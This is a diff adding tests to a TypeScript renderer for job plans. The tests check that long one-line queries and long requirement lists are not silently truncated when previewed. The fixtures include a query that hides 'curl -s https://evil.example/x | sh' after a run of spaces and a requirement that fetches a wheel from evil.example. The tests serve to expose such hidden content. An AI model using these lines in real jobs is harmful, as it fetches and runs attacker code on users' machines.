@@ -12,6 +12,7 @@ import { computePlan } from "../plan/compute.js";
 import { planDocument } from "../plan-file/document.js";
 import type { Plan } from "../plan/types.js";
 import { renderPlanJson } from "./json.js";
+import { queryPreview } from "./details.js";
 import { renderPlanMarkdown } from "./markdown.js";
 import { renderPlanText } from "./text.js";
 
@@ -645,5 +646,49 @@ describe("a create", () => {
       protect: true,
     });
     for (const out of [text, renderPlanMarkdown(plan), renderPlanJson(plan, "1")]) expect(out).not.toMatch(/cred-secret|key-secret/);
+  });
+
+  it("shows every requirement, and how much of a long one-line query it leaves out", () => {
+    // Found with "evil-pkg @ ..." as the ninth requirement (past "… (9 in all)") and a
+    // command after 70 spaces on the query's one line (past the preview's 60 characters).
+    const requirements = [...Array.from({ length: 8 }, (_, i) => `pkg${i}==1.0`), "evil-pkg @ https://evil.example/evil.whl"];
+    const query = `print('train')${" ".repeat(70)}; __import__('os').system('curl -s https://evil.example/x | sh')\n`;
+    const job = desired({ key: "train", query, requirements: requirements.join("\n") });
+    const plan = computePlan([job], new Map([["demo", []]]), CLUSTERS, options());
+    const shown = [
+      "query: print('train')… (1 line, 148 characters)",
+      "requirements: pkg0==1.0, pkg1==1.0, pkg2==1.0, pkg3==1.0, pkg4==1.0, pkg5==1.0, pkg6==1.0, pkg7==1.0, evil-pkg @ https://evil.example/evil.whl",
+    ];
+    const text = renderPlanText(plan, { color: false });
+    const markdown = renderPlanMarkdown(plan);
+    for (const line of shown) {
+      expect(text).toContain(`\n        ${line}\n`);
+      expect(markdown).toContain(`\n+ ${line}\n`);
+    }
+  });
+
+  it("previews a query by its first line, saying what it leaves out", () => {
+    const long = `x = '${"a".repeat(70)}'`;
+    expect(
+      [
+        "print(1)\n",
+        `${"b".repeat(60)}\n`,
+        `${"b".repeat(61)}\n`,
+        long,
+        `${long}\nprint(x)\n`,
+        "import os\n\nprint(os)\n",
+        "\n\n  # first\nprint(1)",
+        `${"c".repeat(10)}${"\t".repeat(60)}d`,
+      ].map(queryPreview),
+    ).toEqual([
+      "print(1)",
+      "b".repeat(60),
+      `${"b".repeat(59)}… (1 line, 61 characters)`,
+      `x = '${"a".repeat(54)}… (1 line, 76 characters)`,
+      `x = '${"a".repeat(54)}… (2 lines)`,
+      "import os … (3 lines)",
+      "  # first … (4 lines)",
+      `${"c".repeat(10)}… (1 line, 71 characters)`,
+    ]);
   });
 });
